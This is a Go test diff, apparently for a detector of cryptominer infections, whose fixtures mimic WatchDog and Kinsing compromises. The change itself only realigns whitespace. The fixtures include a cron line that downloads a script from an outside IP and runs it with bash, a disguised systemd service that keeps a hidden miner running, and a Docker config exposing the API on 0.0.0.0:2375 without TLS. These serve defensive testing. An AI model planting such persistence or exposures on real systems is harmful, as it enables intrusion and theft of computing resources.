@@ -48,10 +48,10 @@ func TestInfectedFamilies(t *testing.T) {
 		"var/spool/cron/crontabs/alice": "*/5 * * * * bash -c \"$(curl -fsSL http://192.0.2.20:8220/i.sh)\"\n",
 		// WatchDog-style: a unit that keeps a renamed miner alive from a
 		// hidden dir in root's home, enabled at boot.
-		"etc/systemd/system/sysupdate.service": "[Unit]\nDescription=system update\n[Service]\nExecStart=/root/.sysupdate/sysupdate\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
+		"etc/systemd/system/sysupdate.service":                         "[Unit]\nDescription=system update\n[Service]\nExecStart=/root/.sysupdate/sysupdate\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
 		"etc/systemd/system/multi-user.target.wants/sysupdate.service": "->/etc/systemd/system/sysupdate.service",
-		"root/.sysupdate/sysupdate":   minerELF,
-		"root/.sysupdate/config.json": xmrigConfig,
+		"root/.sysupdate/sysupdate":                                    minerELF,
+		"root/.sysupdate/config.json":                                  xmrigConfig,
 		// Kinsing: the way in (Docker API open to the network, no TLS) and
 		// a preload rootkit hiding its processes.
 		"etc/docker/daemon.json": `{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}`,
